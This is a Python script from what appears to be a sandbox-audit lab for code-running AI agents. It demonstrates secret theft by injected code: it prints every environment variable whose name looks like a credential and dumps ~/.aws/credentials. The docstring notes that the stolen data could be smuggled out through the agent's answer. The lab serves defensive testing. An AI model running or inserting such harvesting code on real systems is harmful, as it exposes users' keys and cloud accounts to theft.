# lab:title: Steal API keys and cloud credentials
# lab:threat: secrets
# lab:layer: env
# lab:consequence: Your API keys, database password and cloud credentials are now the attacker's: expect fraudulent charges and a breach of whatever they unlock.
"""Secret theft: what injected code does first, because it costs one line.

Looks through os.environ for anything named like a credential (API keys,
tokens, passwords, DATABASE_URL, ...) and prints name and value, then tries
the usual place where cloud keys live on disk, ~/.aws/credentials. In a real
attack the loot would be sent off or smuggled into the agent's answer;
printing it is enough here, because whatever the code prints leaves the
sandbox.
"""
import os
import re
import sys


def lab_input(name):
    """The lab's input NAME: from the environment, else from a NAME=VALUE
    argument (a sandbox under audit may clear the environment)."""
    for arg in sys.argv[1:]:
        key, eq, value = arg.partition("=")
        if eq and key == name and not os.environ.get(name):
            return value
    return os.environ.get(name)


def report_attempt():
    """Under `audit` the lab asks each attack to say when it makes its move,
    with a word only this run can form: no word, no verdict."""
    proof = lab_input("LAB_PROOF")
    if proof:
        print(f"lab-attempt: {proof[::-1]}", flush=True)

# Substrings of variable names that usually mean "this is a secret".
LOOKS_SECRET = re.compile(
    r"KEY|TOKEN|SECRET|PASSWORD|PASSWD|PASS|CREDENTIAL|AUTH"
    r"|DATABASE_URL|DSN|PRIVATE",
    re.IGNORECASE)


def main():
    report_attempt()
    names = sorted(os.environ)
    plural = "" if len(names) == 1 else "s"
    print(f"environment: {len(names)} variable{plural} visible", flush=True)
    found = [n for n in names if LOOKS_SECRET.search(n)]
    for n in found:
        # lab:danger: prints every secret the environment holds
        print(f"  FOUND {n}={os.environ[n]}", flush=True)
    if found:
        print(f"{len(found)} of them look like credentials", flush=True)
    else:
        print("nothing that looks like a credential in the environment",
              flush=True)
        print("  variables seen: " + (" ".join(names) or "(none)"), flush=True)

    path = os.path.expanduser("~/.aws/credentials")
    print(f"trying {path}", flush=True)
    try:
        # lab:danger: reads the mounted credentials file
        with open(path, encoding="utf-8", errors="replace") as f:
            data = f.read(64 * 1024)
    except FileNotFoundError:
        print("  no credentials file there (nothing was mounted at that path)",
              flush=True)
    except OSError as e:
        print(f"  cannot read it: {e}", flush=True)
    else:
        print(f"  got {len(data)} bytes:", flush=True)
        for line in data.splitlines():
            print(f"  | {line}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
